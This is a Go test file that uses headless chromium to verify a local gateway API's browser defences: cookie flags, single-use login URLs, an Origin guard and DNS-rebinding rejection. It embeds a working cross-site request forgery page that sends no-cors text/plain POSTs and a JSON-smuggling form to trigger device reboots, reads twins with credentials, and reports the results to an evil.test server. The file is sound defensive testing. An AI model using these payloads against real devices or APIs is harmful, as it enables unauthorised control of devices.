package localapi

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/chromedp"
)

// The claims of docs/security.md, "A web page in a browser on the gateway",
// checked with a real browser (Debian's chromium driven by chromedp) against
// the API the other tests build: what the Go client tests send by hand is
// here what chromium itself sends (Origin, Sec-Fetch-Site, cookies after
// SameSite, HttpOnly, the Host of a rebound name).

// browserEnv=1 (CI) makes a missing chromium a failure instead of a skip.
const browserEnv = "OUTPOST_BROWSER_TESTS"

// newBrowser starts one headless chromium for a test; every tab of the test
// shares it. evil.test, rebind.test and gw1.example (the fixture's
// --hostname) resolve to 127.0.0.1 inside the browser.
func newBrowser(t *testing.T) context.Context {
	t.Helper()
	path, err := exec.LookPath("chromium")
	if err != nil {
		if os.Getenv(browserEnv) == "1" {
			t.Fatalf("no chromium (%v) with %s=1: `apt-get install -y chromium` (Debian) installs it", err, browserEnv)
		}
		t.Skipf("no chromium (%v): `apt-get install chromium` runs the browser tests (with %s=1 this is a failure)", err, browserEnv)
	}
	opts := append(chromedp.DefaultExecAllocatorOptions[:], chromedp.ExecPath(path), chromedp.NoSandbox, chromedp.DisableGPU,
		chromedp.Flag("disable-quic", true), chromedp.Flag("disable-component-update", true), chromedp.Flag("disable-sync", true),
		chromedp.Flag("host-resolver-rules", "MAP rebind.test 127.0.0.1, MAP evil.test 127.0.0.1, MAP gw1.example 127.0.0.1"))
	alloc, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
	t.Cleanup(cancelAlloc)
	browser, cancel := chromedp.NewContext(alloc)
	t.Cleanup(cancel)
	if err := chromedp.Do(browser); err != nil { // starts the browser, without a timeout
		t.Fatalf("start %s: %v", path, err)
	}
	return browser
}

// browserContext is a fresh browser profile (its own cookie jar) in the
// shared browser; tabs made from it with newTab share its cookies.
func browserContext(t *testing.T, browser context.Context) context.Context {
	t.Helper()
	ctx, cancel := chromedp.NewContext(browser, chromedp.WithNewBrowserContext())
	t.Cleanup(cancel)
	if err := chromedp.Do(ctx); err != nil {
		t.Fatal(err)
	}
	return ctx
}

func newTab(t *testing.T, profile context.Context) context.Context {
	t.Helper()
	ctx, cancel := context.WithTimeout(profile, 15*time.Second)
	t.Cleanup(cancel)
	ctx, cancelTab := chromedp.NewContext(ctx)
	t.Cleanup(cancelTab)
	return ctx
}

func bodyText(t *testing.T, tab context.Context) string {
	t.Helper()
	s, err := chromedp.Run(tab, chromedp.Evaluate[string](`document.body ? document.body.innerText : ""`))
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// browserLogin does what `outpost edge dashboard` does (Client.LoginURL:
// POST /login-codes with the token) and opens the URL in tab.
func browserLogin(t *testing.T, f *fixture, tab context.Context) string {
	t.Helper()
	u, err := Client{Addr: f.srv.Addr(), Token: f.token}.LoginURL(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	resp, err := chromedp.Run(tab, chromedp.NavigateResponse(u))
	if err != nil {
		t.Fatalf("open %s: %v", u, err)
	}
	if resp.Status != http.StatusOK {
		t.Fatalf("login URL in the browser: ended on %s with %d, want the status page", resp.URL, resp.Status)
	}
	// The page fetches /status and shows it.
	if _, err := chromedp.Run(tab, chromedp.Poll[bool](`document.getElementById("device").textContent === "gw1"`)); err != nil {
		t.Fatalf("the status page never showed the device id: %v; page: %q", err, bodyText(t, tab))
	}
	return u
}

func TestBrowserLogin(t *testing.T) {
	browser := newBrowser(t)
	f := newFixture(t, nil)
	tab := newTab(t, browserContext(t, browser))
	u := browserLogin(t, f, tab)

	if loc, err := chromedp.Run(tab, chromedp.Location()); err != nil || loc != "http://"+f.srv.Addr()+"/" {
		t.Errorf("after the login URL the browser is at %q (%v), want the status page /", loc, err)
	}
	// The browser holds the session cookie, HttpOnly and SameSite=Strict ...
	cookies, err := chromedp.Run(tab, func(ctx context.Context, _ *chromedp.Target) ([]*network.Cookie, error) {
		res, err := chromedp.Call(ctx, network.GetCookies, network.GetCookiesParams{})
		return res.Cookies, err
	})
	if err != nil {
		t.Fatal(err)
	}
	i := slices.IndexFunc(cookies, func(c *network.Cookie) bool { return c.Name == CookieName })
	if i < 0 {
		t.Fatalf("the browser has no %s cookie after the login URL: %+v", CookieName, cookies)
	}
	if c := cookies[i]; !c.HTTPOnly || c.SameSite != network.CookieSameSiteStrict {
		t.Errorf("session cookie in the browser: HttpOnly %t, SameSite %q; want HttpOnly, Strict", c.HTTPOnly, c.SameSite)
	}
	// ... which the page's scripts cannot read ...
	if dc, err := chromedp.Run(tab, chromedp.Evaluate[string](`document.cookie`)); err != nil || strings.Contains(dc, CookieName) {
		t.Errorf("document.cookie = %q (%v): a script can read the session", dc, err)
	}
	// ... and that the browser sends: the page's own fetch reads a twin.
	twinJSON, err := chromedp.Run(tab, chromedp.Evaluate[string](`fetch("/twins/sensor1").then(r => r.status + " " + r.statusText).catch(e => "" + e)`, chromedp.EvalAwaitPromise))
	if err != nil || !strings.HasPrefix(twinJSON, "200") {
		t.Errorf("GET /twins/sensor1 from the status page: %q %v, want 200 with the session", twinJSON, err)
	}

	// The same login URL in another browser profile: refused, no status.
	again := newTab(t, browserContext(t, browser))
	resp, err := chromedp.Run(again, chromedp.NavigateResponse(u))
	if err != nil {
		t.Fatal(err)
	}
	body := bodyText(t, again)
	if resp.Status != http.StatusUnauthorized || !strings.Contains(body, "used up") || strings.Contains(body, "gw1") {
		t.Errorf("the login URL a second time: %d %q, want 401 saying it is used up", resp.Status, body)
	}
	if loc, _ := chromedp.Run(again, chromedp.Location()); loc != u {
		t.Errorf("the second use went on to %q", loc)
	}
}

// seen is one request as the API handled it.
type seen struct {
	method, path string
	status       int
	cookie       bool // the session cookie came along
}

func (s seen) String() string {
	return fmt.Sprintf("%s %s → %d (cookie %t)", s.method, s.path, s.status, s.cookie)
}

// recorder notes what the API answered: a no-cors response is opaque to
// the page that sent it.
type recorder struct {
	next http.Handler
	mu   sync.Mutex
	reqs []seen
}

type statusWriter struct {
	http.ResponseWriter
	status int
}

func (w *statusWriter) WriteHeader(code int) {
	if w.status == 0 {
		w.status = code
	}
	w.ResponseWriter.WriteHeader(code)
}

func (w *statusWriter) Write(b []byte) (int, error) {
	if w.status == 0 {
		w.status = http.StatusOK
	}
	return w.ResponseWriter.Write(b)
}

func (w *statusWriter) Unwrap() http.ResponseWriter { return w.ResponseWriter }

func (rc *recorder) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	sw := &statusWriter{ResponseWriter: w}
	rc.next.ServeHTTP(sw, r)
	_, err := r.Cookie(CookieName)
	rc.mu.Lock()
	defer rc.mu.Unlock()
	if r.URL.Path != "/favicon.ico" {
		rc.reqs = append(rc.reqs, seen{r.Method, r.URL.Path, sw.status, err == nil})
	}
}

func (rc *recorder) take() []seen {
	rc.mu.Lock()
	defer rc.mu.Unlock()
	r := rc.reqs
	rc.reqs = nil
	return r
}

// waitFor waits until the API has handled n requests.
func (rc *recorder) waitFor(t *testing.T, n int) {
	t.Helper()
	for deadline := time.Now().Add(10 * time.Second); time.Now().Before(deadline); time.Sleep(20 * time.Millisecond) {
		rc.mu.Lock()
		got := len(rc.reqs)
		rc.mu.Unlock()
		if got >= n {
			return
		}
	}
	rc.mu.Lock()
	defer rc.mu.Unlock()
	t.Fatalf("the API saw %d of the %d requests the attacker page sends: %v", len(rc.reqs), n, rc.reqs)
}

// serveOn serves h on a new 127.0.0.1 port.
func serveOn(t *testing.T, h http.Handler) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	hs := &http.Server{Handler: h, ReadHeaderTimeout: readHeaderTimeout}
	go hs.Serve(ln)
	t.Cleanup(func() { hs.Close() })
	return ln.Addr().String()
}

// attackPage tries, from another origin, what a page can send without a
// preflight: no-cors text/plain POSTs to C2D and a direct method, reads
// of a twin and a queue (with the browser's cookies), a form POST; it
// reports what it could read to its own server, then submits the form.
const attackPage = `<!doctype html><html><body>
<form method="POST" enctype="text/plain"><input name='{"methodName":"reboot","x":"' value='"}'></form>
<script>
const api = new URLSearchParams(location.search).get("api");
const got = [];
async function attempt(name, p) {
  try {
    const r = await p;
    got.push(name + " " + r.type + " " + r.status + " " + (r.type === "opaque" ? "" : await r.text()));
  } catch (e) { got.push(name + " error " + e); }
}
(async () => {
  const post = body => ({method: "POST", mode: "no-cors", credentials: "include", headers: {"Content-Type": "text/plain"}, body});
  await attempt("c2d", fetch(api + "/devices/sensor1/messages/deviceBound", post("reboot")));
  await attempt("method", fetch(api + "/twins/sensor1/methods", post('{"methodName":"reboot"}')));
  await attempt("twin", fetch(api + "/twins/sensor1", {credentials: "include"}));
  await attempt("queue", fetch(api + "/queues/c2d/sensor1/p0", {credentials: "include"}));
  await fetch("/report", {method: "POST", body: got.join("\n")});
  const form = document.forms[0];
  form.action = api + "/devices/sensor1/messages/deviceBound";
  form.submit();
})();
</script></body></html>`

// navPage sends the browser to the API's twin, a top-level GET (the only
// cross-site request SameSite=Lax would let the cookie go with).
const navPage = `<!doctype html><script>location.href = new URLSearchParams(location.search).get("api") + "/twins/sensor1";</script>`

// attacker is the other site's server.
type attacker struct {
	mu     sync.Mutex
	report string
}

func (a *attacker) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	switch r.URL.Path {
	case "/attack":
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, attackPage)
	case "/nav":
		w.Header().Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, navPage)
	case "/report":
		b, _ := io.ReadAll(r.Body)
		a.mu.Lock()
		a.report = string(b)
		a.mu.Unlock()
	default:
		http.NotFound(w, r)
	}
}

// The requests the attacker pages make, in order.
var attackRequests = []string{
	"POST /devices/sensor1/messages/deviceBound", // fetch no-cors text/plain
	"POST /twins/sensor1/methods",                // fetch no-cors text/plain
	"GET /twins/sensor1",                         // fetch
	"GET /queues/c2d/sensor1/p0",                 // fetch
	"POST /devices/sensor1/messages/deviceBound", // form
	"GET /twins/sensor1",                         // top-level navigation
}

func TestBrowserCrossSite(t *testing.T) {
	browser := newBrowser(t)
	f := newFixture(t, nil)
	f.sendC2D(f.token, "queued-payload") // something a read would reveal
	// The API's own handler chain (Host and Origin guard, access, content
	// type) on two more ports, behind a recorder; and its routes without
	// the guard, to see the next layers hold where the guard is gone.
	guarded := &recorder{next: f.srv.srv.Handler}
	unguarded := &recorder{next: f.srv.routes()}
	guardedAddr, unguardedAddr := serveOn(t, guarded), serveOn(t, unguarded)
	evil := &attacker{}
	_, evilPort, _ := net.SplitHostPort(serveOn(t, evil))
	sameSite := "http://127.0.0.1:" + evilPort // another port of this machine: cross-origin, same site
	crossSite := "http://evil.test:" + evilPort

	profile := browserContext(t, browser)
	attack := func(t *testing.T, rec *recorder, apiAddr, from string, want []int, cookieAllowed bool) {
		t.Helper()
		defer func() { // nothing acted on, even when the test stops early
			if n, d := f.invoked.Load(), f.depth("c2d/sensor1/p0"); n != 0 || d != 1 {
				t.Errorf("after the attack from %s: %d direct methods invoked, C2D queue %d deep (want 0 and the 1 message sent with the token)", from, n, d)
			}
		}()
		rec.take()
		q := "?api=" + url.QueryEscape("http://"+apiAddr)
		if err := chromedp.Do(newTab(t, profile), chromedp.Navigate(from+"/attack"+q)); err != nil {
			t.Fatal(err)
		}
		rec.waitFor(t, 5)
		if err := chromedp.Do(newTab(t, profile), chromedp.Navigate(from+"/nav"+q)); err != nil {
			t.Fatal(err)
		}
		rec.waitFor(t, 6)
		got := rec.take()
		for i, s := range got {
			if i >= len(attackRequests) || s.method+" "+s.path != attackRequests[i] {
				t.Fatalf("the API saw %v, want %v", got, attackRequests)
			}
			if s.status != want[i] {
				t.Errorf("%v, want %d", s, want[i])
			}
			if s.cookie && !cookieAllowed {
				t.Errorf("%v: the session cookie went along with a request from %s", s, from)
			}
		}
		evil.mu.Lock()
		report := evil.report
		evil.report = ""
		evil.mu.Unlock()
		t.Logf("from %s: the API answered %v; the page saw %q", from, got, report)
		if !strings.Contains(report, "c2d opaque 0") {
			t.Errorf("the attacker page's report %q: the fetches did not run as expected", report)
		}
		for _, secret := range []string{"s3cr3t", "queued-payload", "cXVldWVk"} {
			if strings.Contains(report, secret) {
				t.Errorf("the attacker page read %q: %q", secret, report)
			}
		}
	}
	all := func(code int) []int { return slices.Repeat([]int{code}, len(attackRequests)) }

	// Origin / Sec-Fetch-Site: 403 before anything else.
	t.Run("guard", func(t *testing.T) {
		attack(t, guarded, guardedAddr, sameSite, all(http.StatusForbidden), false)
		attack(t, guarded, guardedAddr, crossSite, all(http.StatusForbidden), false)
	})
	// Logged in: the session cookie is in the browser.
	browserLogin(t, f, newTab(t, profile))
	t.Run("guard logged in", func(t *testing.T) {
		// Another port of 127.0.0.1 is the same site: SameSite lets the
		// cookie go along; only the guard (Origin, Sec-Fetch-Site) stops these.
		attack(t, guarded, guardedAddr, sameSite, all(http.StatusForbidden), true)
		attack(t, guarded, guardedAddr, crossSite, all(http.StatusForbidden), false)
	})
	// Were the guard gone: the cross-site page's requests carry no cookie
	// (SameSite=Strict, 401); the same-site page's writes are text/plain
	// (415), and what it reads it cannot see (no CORS headers).
	t.Run("behind the guard", func(t *testing.T) {
		attack(t, unguarded, unguardedAddr, crossSite, all(http.StatusUnauthorized), false)
		attack(t, unguarded, unguardedAddr, sameSite, []int{http.StatusUnsupportedMediaType, http.StatusUnsupportedMediaType,
			http.StatusOK, http.StatusOK, http.StatusUnsupportedMediaType, http.StatusOK}, true)
	})
}

func TestBrowserRebinding(t *testing.T) {
	browser := newBrowser(t)
	f := newFixture(t, nil)
	_, port, _ := net.SplitHostPort(f.srv.Addr())
	tab := newTab(t, browserContext(t, browser))
	for _, c := range []struct {
		host string
		want int
		text string
	}{
		{"rebind.test", http.StatusMisdirectedRequest, `"code":"ForeignHost"`},
		{"localhost", http.StatusOK, `"deviceId":"gw1"`},
		{"gw1.example", http.StatusOK, `"deviceId":"gw1"`}, // the edge's --hostname
	} {
		for _, path := range []string{"/status", "/"} {
			u := "http://" + c.host + ":" + port + path
			resp, err := chromedp.Run(tab, chromedp.NavigateResponse(u))
			if err != nil {
				t.Fatalf("%s: %v", u, err)
			}
			body := bodyText(t, tab)
			if resp.Status != int64(c.want) {
				t.Errorf("%s in the browser: %d %q, want %d", u, resp.Status, body, c.want)
			}
			if path == "/status" && !strings.Contains(body, c.text) {
				t.Errorf("%s in the browser shows %q, want %q", u, body, c.text)
			}
		}
	}
}
